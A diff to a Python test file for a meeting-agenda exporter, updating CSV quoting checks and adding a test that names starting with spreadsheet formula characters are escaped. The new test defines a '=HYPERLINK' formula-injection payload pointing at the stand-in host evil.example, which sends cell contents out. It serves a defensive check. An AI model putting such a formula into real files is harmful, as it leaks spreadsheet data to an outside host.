@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime
 
 from icalendar import Calendar
@@ -41,12 +43,30 @@ def test_agendas_are_personal_and_in_time_order():
 
 def test_csv_has_one_row_per_person_and_meeting():
     text = agendas_csv(meeting_agendas(INSTANCE, PLACEMENTS, CLOCK))
-    assert text.splitlines()[0] == "owner,item,start,end,place,with,title"
-    assert text.splitlines()[1] == (
-        "acme,m1,2025-06-10T09:00:00+09:00,2025-06-10T09:20:00+09:00,Table 1,Startup One,"
-        "1:1 meeting with Startup One"
+    lines = text.split("\r\n")
+    assert lines[0] == '\ufeff"owner","item","start","end","place","with","title"'
+    assert lines[1] == (
+        '"acme","m1","2025-06-10T09:00:00+09:00","2025-06-10T09:20:00+09:00","Table 1",'
+        '"Startup One","1:1 meeting with Startup One"'
     )
-    assert len(text.splitlines()) == 1 + 4
+    assert lines[-1] == "" and len(lines) == 1 + 4 + 1
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+
+
+def test_csv_neutralises_names_that_spreadsheets_would_run():
+    instance = MeetingInstance(
+        n_slots=2,
+        participants=(Participant("acme", "@SUM(1+1)"), Participant("s1", HYPERLINK)),
+        meetings=(Meeting("m1", ("s1", "acme")),),
+        tables=(Table("t1", "-2+3"),),
+    )
+    text = agendas_csv(meeting_agendas(instance, [Placement("m1", 0, "t1")], CLOCK))
+    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+    assert rows[1] == ["acme", "m1", "2025-06-10T09:00:00+09:00", "2025-06-10T09:20:00+09:00",
+                       "'-2+3", "'" + HYPERLINK, "1:1 meeting with " + HYPERLINK]
+    assert rows[2][4:6] == ["'-2+3", "'@SUM(1+1)"]
 
 
 def test_icalendar_round_trips_with_seoul_times():
